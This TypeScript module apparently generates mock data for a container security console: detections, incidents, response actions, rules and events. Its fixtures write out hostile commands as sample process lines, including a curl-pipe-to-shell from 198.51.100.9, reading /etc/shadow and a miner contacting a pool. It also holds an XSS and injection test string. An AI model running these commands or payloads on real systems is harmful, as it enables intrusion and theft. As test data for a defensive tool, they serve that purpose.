import type { AnswerOf } from '#wire/routes.ts';
import { type Answers, ApiFault } from './console-answers.ts';
import { SeededRandom } from './console-random.ts';

type Incident = AnswerOf<'readIncident'>;
type Action = AnswerOf<'readAction'>;
type Detection = AnswerOf<'readDetection'>;

const minute = 60_000;
const hour = 60 * minute;

/** Text that tries to be more than text; it must be shown, and do nothing. */
export const hostileText = '<img src=x onerror=alert(1)>\u202egnp.exe\u0007 ${7*7} __proto__';

const rules = [
  ['Shell started by a web server', 'critical', 'critical', 'nginx', 'sh -c id'],
  ['Program that is not of the image was run', 'high', 'error', 'sh', '/tmp/.x/kdevtmpfsi'],
  [
    'Connection to an address that the profile does not know',
    'medium',
    'warning',
    'curl',
    'curl -s http://198.51.100.9/a.sh',
  ],
  ['Sensitive file was read', 'high', 'error', 'cat', 'cat /etc/shadow'],
  ['Package manager was run in a container', 'low', 'notice', 'apt-get', 'apt-get install -y nmap'],
] as const;

/** Detections, events, incidents and actions, as a console sees them; decisions and actions change what is read afterwards. */
export function liveAnswers(now: number): Answers {
  const random = new SeededRandom(11);
  const detections = Array.from({ length: 46 }, (_, at) => makeDetection(now, at));
  const incidents = ['100', '101', '102', '103'].map((id, at) =>
    makeIncident({ now, id, at, detections }),
  );
  const actions = incidents.flatMap((one) => one.actions);
  return {
    ...detectionAnswers(now, detections, random),
    ...incidentAnswers(now, incidents),
    ...actionAnswers(now, incidents, actions),
    ...ruleAnswers(now),
  };
}

function detectionAnswers(
  now: number,
  detections: readonly Detection[],
  random: SeededRandom,
): Answers {
  return {
    listDetections: ({ query }) =>
      cut(
        detections.filter(
          (one) =>
            isWanted(one, query) &&
            (query.severity?.includes(one.severity) ?? true) &&
            (query.from === undefined || one.time >= query.from) &&
            (query.to === undefined || one.time < query.to),
        ),
        query,
      ),
    readDetection: ({ params }) => found(detections, params.id),
    countDetections: ({ query }) => ({
      hours: Array.from({ length: query.hours }, (_, at) => ({
        hour: Math.floor(now / hour) * hour - (query.hours - 1 - at) * hour,
        events: 900 + random.whole(4000),
        bySeverity:
          at % 5 === 2
            ? { critical: at % 3, high: random.whole(4), medium: random.whole(9) }
            : { low: random.whole(3) },
      })),
    }),
    listEvents: ({ query }) =>
      cut(
        Array.from({ length: 120 }, (_, at) => makeEvent(now, at)).filter(
          (one) =>
            (query.kind?.includes(one.kind) ?? true) &&
            (query.alarms !== 'true' || one.rule !== undefined) &&
            (query.container === undefined || one.container === query.container) &&
            `${one.process} ${one.arguments ?? ''}`.includes(query.q ?? ''),
        ),
        query,
      ),
  };
}

function isWanted(
  one: Detection,
  query: {
    readonly rule?: string | undefined;
    readonly workload?: string | undefined;
    readonly incident?: string | undefined;
    readonly q?: string | undefined;
  },
): boolean {
  return (
    (query.rule === undefined || one.rule === query.rule) &&
    (query.workload === undefined || one.workload?.id === query.workload) &&
    (query.incident === undefined || one.incident === query.incident) &&
    `${one.rule} ${one.output}`.toLowerCase().includes((query.q ?? '').toLowerCase())
  );
}

function incidentAnswers(now: number, incidents: Incident[]): Answers {
  function change(id: string, with_: (before: Incident) => Partial<Incident>): Incident {
    const at = incidents.findIndex((one) => one.id === id);
    const before = found(incidents, id);
    const after = { ...before, ...with_(before), updated: now, version: before.version + 1 };
    incidents[at] = after;
    return after;
  }
  return {
    listIncidents: ({ query }) =>
      cut(
        incidents.filter(
          (one) =>
            (query.status?.includes(one.status) ?? true) &&
            (query.severity?.includes(one.severity) ?? true) &&
            one.title.toLowerCase().includes((query.q ?? '').toLowerCase()),
        ),
        query,
      ),
    readIncident: ({ params }) => found(incidents, params.id),
    changeIncident: ({ params, body }) => {
      if (body.version !== undefined && body.version !== found(incidents, params.id).version)
        throw new ApiFault(409, 'state.conflict', 'somebody changed the incident meanwhile');
      return change(params.id, (before) => ({
        ...(body.status === undefined ? {} : { status: body.status }),
        ...(body.assignee === undefined ? {} : { assignee: body.assignee }),
        ...(body.verdict === undefined ? {} : { verdict: body.verdict }),
        timeline: [
          ...before.timeline,
          { time: now, kind: 'status', actor: 'ada', text: body.reason ?? body.assignee ?? '' },
        ],
      }));
    },
    noteIncident: ({ params, body }) =>
      change(params.id, (before) => ({
        timeline: [...before.timeline, { time: now, kind: 'note', actor: 'ada', text: body.text }],
      })),
  };
}

function actionAnswers(now: number, incidents: Incident[], actions: Action[]): Answers {
  function put(action: Action): Action {
    const at = actions.findIndex((one) => one.id === action.id);
    if (at < 0) actions.unshift(action);
    else actions[at] = action;
    const of = incidents.findIndex((one) => one.id === action.incident);
    const incident = incidents[of];
    if (incident !== undefined)
      incidents[of] = {
        ...incident,
        actions: actions.filter((one) => one.incident === incident.id),
      };
    return action;
  }
  function become(id: string, state: string): Action {
    const before = found(actions, id);
    return put({
      ...before,
      state,
      history: [...before.history, { time: now, state, by: 'ada' }],
    });
  }
  return {
    listActions: ({ query }) =>
      cut(
        actions.filter((one) => query.incident === undefined || one.incident === query.incident),
        query,
      ),
    readAction: ({ params }) => found(actions, params.id),
    planAction: ({ body }) => {
      const isHard = /kill|stop|restart|delete|cordon/u.test(body.kind);
      return put({
        ...makeAction(now, `a${actions.length + 1}`, body.kind, 'planned'),
        impact: isHard ? 'disrupt' : /snapshot|capture/u.test(body.kind) ? 'observe' : 'contain',
        container: body.container,
        reason: body.reason,
        requestedBy: 'ada',
        ...(body.incident === undefined ? {} : { incident: body.incident }),
        ...(body.minutes === undefined ? {} : { expires: now + body.minutes * minute }),
      });
    },
    runAction: ({ params }) =>
      become(
        params.id,
        found(actions, params.id).impact === 'disrupt' ? 'awaiting-approval' : 'active',
      ),
    approveAction: ({ params }) => become(params.id, 'done'),
    undoAction: ({ params }) => become(params.id, 'undone'),
  };
}

function ruleAnswers(now: number): Answers {
  const list = Array.from({ length: 24 }, (_, at) => {
    const [name, , priority] = rules[at % rules.length] ?? rules[0];
    return {
      id: `CSN-RT-00${10 + at}`,
      name: at < rules.length ? name : `${name} (variant ${at})`,
      priority,
      enabled: at % 6 !== 5,
      source: at % 4 === 3 ? '/etc/caisson/rules/shop.yaml' : 'catalogue',
      tags: ['container', 'mitre_execution', 'T1059'],
      description: 'What it watches for, and why somebody should look when it happens.',
      detections: at < rules.length ? 40 - at * 7 : 0,
      ...(at < rules.length ? { last: now - at * hour } : {}),
    };
  });
  function dimensions(state: string): AnswerOf<'listProfiles'>['items'][number]['dimensions'] {
    return ['exec', 'file-write', 'connect', 'listen', 'capability'].map((name, at) => ({
      name,
      state: at === 4 ? 'learning' : state,
      known: 3 + at * 5,
    }));
  }
  return {
    listRules: ({ query }) =>
      cut(
        list
          .filter((one) => one.name.toLowerCase().includes((query.q ?? '').toLowerCase()))
          .map((one) => one),
        query,
      ),
    changeRule: ({ params, body }) => {
      const at = list.findIndex((one) => one.name === params.name);
      const before = list[at];
      if (before === undefined) throw new ApiFault(404, 'input.not-found', 'no such rule');
      list[at] = { ...before, enabled: body.enabled };
      return list[at];
    },
    listProfiles: ({ query }) =>
      cut(
        ['checkout', 'web', 'ledger', 'gateway', 'postgres'].map((name, at) => ({
          name: `shop/${name}`,
          image: `registry.example/shop/${name}`,
          workload: `shop/Deployment/${name}`,
          state: at === 3 ? 'learning' : 'active',
          version: 3 + at,
          updated: now - at * hour,
          behaviours: 40 + at * 11,
          dimensions: dimensions(at === 3 ? 'learning' : 'active'),
        })),
        query,
      ),
  };
}

function makeDetection(now: number, at: number): Detection {
  const [rule, severity, priority, process, line] = rules[at % rules.length] ?? rules[0];
  const time = now - at * 37 * minute;
  return {
    id: `d${at}`,
    time,
    received: time + 340,
    kind: at % 7 === 2 ? 'profile' : at % 7 === 1 ? 'drift' : 'rule',
    rule,
    ruleId: 'CSN-RT-0012',
    priority,
    severity,
    output: at === 3 ? `${line} ${hostileText}` : `${process} ran "${line}" as uid 33 in checkout`,
    tags: ['container', 'mitre_execution', 'T1059'],
    workload: { id: `w-${at % 4}`, name: ['checkout', 'web', 'catalogue', 'ledger'][at % 4] ?? '' },
    container: `${'3f'.repeat(31)}${10 + (at % 4)}`,
    node: `node-${1 + (at % 3)}`,
    place: { cluster: 'west-1', namespace: at % 4 === 3 ? 'payments' : 'shop' },
    process,
    count: 1 + (at % 9),
    ...(at < 9 ? { incident: '100' } : {}),
    incomplete: at % 11 === 5,
    fields: { 'proc.name': process, 'proc.cmdline': line, 'fd.name': '/etc/shadow', 'evt.res': 0 },
    because: [
      { label: 'proc.pname', text: 'nginx is in the list of web servers' },
      { label: 'proc.name', text: `${process} is in the list of shells` },
    ],
    ancestors: processes(now),
  };
}

function processes(now: number): Incident['processes'] {
  const lines = [
    [1, undefined, 'tini', '/usr/bin/tini -- nginx', 0, []],
    [7, 1, 'nginx', 'nginx: master process', 0, []],
    [31, 7, 'nginx', 'nginx: worker process', 33, []],
    [
      412,
      31,
      'sh',
      'sh -c "curl -s http://198.51.100.9/a.sh | sh"',
      33,
      ['Shell started by a web server'],
    ],
    [413, 412, 'curl', 'curl -s http://198.51.100.9/a.sh', 33, []],
    [414, 412, 'sh', hostileText, 33, []],
    [
      420,
      414,
      'kdevtmpfsi',
      '/tmp/.x/kdevtmpfsi -o pool.example:4444',
      33,
      ['Program that is not of the image was run'],
    ],
  ] as const;
  return lines.map(([pid, parentPid, name, commandLine, uid, of]) => ({
    pid,
    ...(parentPid === undefined ? {} : { parentPid }),
    name,
    commandLine,
    exePath: `/usr/bin/${name}`,
    uid,
    start: now - 3 * hour + pid * 1000,
    rules: [...of],
  }));
}

function makeIncident(given: {
  readonly now: number;
  readonly id: string;
  readonly at: number;
  readonly detections: readonly Detection[];
}): Incident {
  const { now, id, at } = given;
  const own = given.detections.filter((one) => one.incident === id);
  const opened = now - (at * 9 + 3) * hour;
  return {
    id,
    title:
      [
        'Shell started by a web server, then a program that is not of the image',
        'Sensitive file was read in ledger',
        `Container ran ${hostileText}`,
        'Package manager was run in a container',
      ][at] ?? '',
    status: (['open', 'open', 'contained', 'resolved'] as const)[at] ?? 'open',
    severity: (['critical', 'high', 'medium', 'low'] as const)[at] ?? 'low',
    score: 94 - at * 19,
    opened,
    updated: opened + 40 * minute,
    ...(at === 3 ? { closed: opened + 2 * hour, verdict: 'benign' as const } : {}),
    workload: { id: 'w-0', name: 'checkout' },
    container: `${'3f'.repeat(31)}10`,
    image: { id: 'img-0', name: 'registry.example/shop/checkout:2.14.0' },
    node: 'node-1',
    place: { cluster: 'west-1', namespace: 'shop' },
    detections: 9 - at,
    techniques: ['T1059.004', 'T1105', 'T1496'],
    ...(at === 1 ? { assignee: 'grace' } : {}),
    incomplete: at === 1,
    scoreReasons: [
      { label: '+40', text: 'a shell was started by a program that serves the internet' },
      { label: '+30', text: 'a program ran that is not part of the image' },
      { label: '+24', text: 'it connects to an address that the profile does not know' },
    ],
    processes: processes(now),
    detectionList: own,
    timeline: [
      {
        time: opened,
        kind: 'opened',
        actor: 'caisson',
        text: 'opened by "Shell started by a web server"',
      },
      {
        time: opened + minute,
        kind: 'detection',
        actor: 'node-1',
        text: 'Program that is not of the image was run',
      },
      {
        time: opened + 2 * minute,
        kind: 'action',
        actor: 'playbook/contain-drift',
        text: 'snapshot: done',
      },
      {
        time: opened + 20 * minute,
        kind: 'note',
        actor: 'grace',
        text: 'The pod serves the shop front. Deploy 2.14.0 of this morning brought it.',
      },
    ],
    findings: [
      {
        rule: 'CVE-2024-6387',
        severity: 'critical',
        component: 'openssh-server',
        title: 'Signal handler race in sshd',
        why: 'known to be exploited',
        running: true,
      },
      {
        rule: 'CVE-2023-44487',
        severity: 'high',
        component: 'nginx',
        title: 'HTTP/2 rapid reset',
        why: 'the process of the incident is of this component',
        running: true,
      },
      {
        rule: 'CVE-2005-2541',
        severity: 'low',
        component: 'tar',
        title: 'tar keeps set-uid bits',
        why: 'of the same image',
        running: false,
      },
    ],
    actions:
      at === 0
        ? [
            { ...makeAction(now, 'a1', 'snapshot', 'done'), impact: 'observe', incident: id },
            {
              ...makeAction(now, 'a2', 'kill-process', 'awaiting-approval'),
              impact: 'disrupt',
              incident: id,
              requestedBy: 'grace',
            },
          ]
        : [],
    evidence: [
      {
        id: 'a1',
        time: opened + 2 * minute,
        digest: `sha256:${'9c'.repeat(32)}`,
        sizeBytes: 135_400_000,
        signed: true,
      },
    ],
    version: 4,
  };
}

function makeAction(now: number, id: string, kind: string, state: string): Action {
  return {
    id,
    kind,
    impact: 'contain',
    state,
    container: `${'3f'.repeat(31)}10`,
    reason: 'the shell talks to a mining pool',
    requestedBy: 'playbook/contain-drift',
    steps: [
      'attach the filter to the cgroup of the container',
      'drop all but DNS and the collector',
    ],
    blastRadius: [
      { label: 'processes', text: '7, one of them the main process' },
      { label: 'connections', text: '3 open connections stall and resume after the undo' },
      { label: 'replicas', text: '2 of 3 replicas stay ready' },
    ],
    undo: 'detach the filter; connections resume',
    refusals: [],
    history: [
      { time: now - 2 * hour, state: 'planned', by: 'playbook/contain-drift' },
      { time: now - 2 * hour, state, by: 'caisson' },
    ],
  };
}

function makeEvent(now: number, at: number): AnswerOf<'listEvents'>['items'][number] {
  const kinds = ['execve', 'openat', 'connect', 'listen', 'procexit'] as const;
  const kind = kinds[at % kinds.length] ?? 'execve';
  const [rule, severity, , process, line] = rules[at % rules.length] ?? rules[0];
  return {
    id: `e${at}`,
    time: now - at * 41_000,
    received: now - at * 41_000 + 200,
    kind,
    workload: { id: `w-${at % 4}`, name: ['checkout', 'web', 'catalogue', 'ledger'][at % 4] ?? '' },
    container: `${'3f'.repeat(31)}${10 + (at % 4)}`,
    node: `node-${1 + (at % 3)}`,
    process,
    pid: 400 + at,
    exe: `/usr/bin/${process}`,
    arguments: at === 4 ? hostileText : line,
    ...(kind === 'openat' ? { path: '/etc/ssl/openssl.cnf' } : {}),
    ...(kind === 'connect' ? { peer: '198.51.100.9:443' } : {}),
    ...(at % 9 === 0 ? { rule, severity } : {}),
  };
}

/** A page of rows; the cursor is the number of the first. */
export function cut<Row>(
  rows: readonly Row[],
  query: { readonly cursor?: string | undefined; readonly limit: number },
): unknown {
  const from = Number(query.cursor ?? 0);
  const to = from + query.limit;
  return { items: rows.slice(from, to), ...(to < rows.length ? { next: String(to) } : {}) };
}

function found<Row extends { readonly id: string }>(rows: readonly Row[], id: string): Row {
  const row = rows.find((one) => one.id === id);
  if (row === undefined) throw new ApiFault(404, 'input.not-found', 'it is not there');
  return row;
}
